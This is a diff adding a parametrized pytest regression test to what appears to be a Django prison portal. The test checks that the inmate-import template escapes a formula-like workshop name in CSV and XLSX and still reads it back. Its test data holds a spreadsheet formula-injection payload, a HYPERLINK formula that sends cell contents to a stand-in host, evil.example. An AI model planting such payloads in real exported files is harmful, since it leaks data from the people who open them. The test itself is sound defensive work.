@@ -942,3 +942,26 @@ def test_import_refuses_a_man_at_a_womens_prison():
         )
     ]
     assert not Inmate.objects.filter(prison=women).exists()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_import_template_writes_a_formula_like_workshop_name_as_text_and_reads_it_back(officer_client, prison, fmt):
+    """Found by an attacker probe: a workshop named "=HYPERLINK(...)" (by an admin account) was a
+    live formula in the template of every officer of that prison."""
+    import openpyxl
+
+    planted = factories.make_workshop(prison=prison, name='=HYPERLINK("http://evil.example/?d="&B2,"Bengkel")')
+    response = officer_client.get(reverse("portal:inmate-import-template"), {"format": fmt})
+
+    if fmt == "xlsx":
+        book = openpyxl.load_workbook(io.BytesIO(response.content))
+        cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.value]
+        assert all(not (isinstance(v, str) and v.startswith("=")) for v in cells)
+        assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
+    else:
+        assert b'"=HYPERLINK' not in response.content and b"'=HYPERLINK" in response.content
+    template = imports.read_table(SimpleUploadedFile(f"templat.{fmt}", response.content)).rows
+    header, example = template[0][1], template[1][1]
+    checked = imports.check_rows(list(enumerate([header, [example[0], "B.I-9999/2018", *example[2:]]], start=1)),
+                                 prison=prison)
+    assert checked.errors == [] and checked.rows[0]["workshop_id"] == planted.pk
